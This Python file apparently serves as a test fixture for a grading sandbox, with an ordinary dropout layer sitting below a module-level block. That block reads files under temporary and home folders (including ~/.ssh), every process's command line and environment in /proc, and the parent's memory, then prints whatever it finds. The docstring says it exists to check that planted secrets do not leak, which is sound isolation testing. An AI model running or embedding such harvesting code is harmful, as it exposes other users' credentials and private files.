"""Reads what it should not, and prints it (its output lands in the instructor's report): every
file under the temporary folders and the homes it can reach (classmates' sandbox copies, the
instructor's ~/.ssh), the command line and environment of every process in /proc (the grader's
rubric, seed and tokens), its own environment, and /proc/<parent>/mem. The test plants secrets in
each of those places; none may appear in any output."""

import os
import time

import numpy as np

EXPECT_STATUS = "graded"
EXPECT_MAX_SCORE = 6


def read(path, limit=4096):
    try:  # never block on a FIFO it comes across
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return ""
    try:
        return os.read(fd, limit).decode("utf-8", "replace")
    except OSError:
        return ""
    finally:
        os.close(fd)


found = ["ENVIRON " + repr(dict(os.environ))]
budget = time.monotonic() + 2  # where it can read everything (level weak) there is a lot: within its time limit
for top in ("/tmp", "/var/tmp", "/dev/shm", "/home", os.path.expanduser("~"), "/root"):
    for folder, _, files in os.walk(top):
        if time.monotonic() > budget:
            break
        for name in files[:50]:
            text = read(os.path.join(folder, name), 512)
            if text:
                found.append(f"FILE {folder}/{name}: {text!r}")
try:
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
except OSError:
    pids = []
for pid in pids:
    found.append(f"PROC {pid} {read(f'/proc/{pid}/cmdline')!r} {read(f'/proc/{pid}/environ')!r}")
try:
    with open(f"/proc/{os.getppid()}/mem", "rb") as fh:
        fh.seek(0x400000)
        found.append(f"MEM {fh.read(64)!r}")
except (OSError, ValueError):
    pass
print("\n".join(found)[:200_000], flush=True)


class DropoutLayer:
    def __init__(self, p):
        if not 0 <= p < 1:
            raise ValueError(f"p must be in [0, 1), got {p}")
        self.p = p
        self.mask = None

    def forward(self, x, training=True):
        if not training:
            return x
        self.mask = np.random.random_sample(x.shape) >= self.p
        return x * self.mask / (1 - self.p)

    def backward(self, grad):
        return grad * self.mask / (1 - self.p)
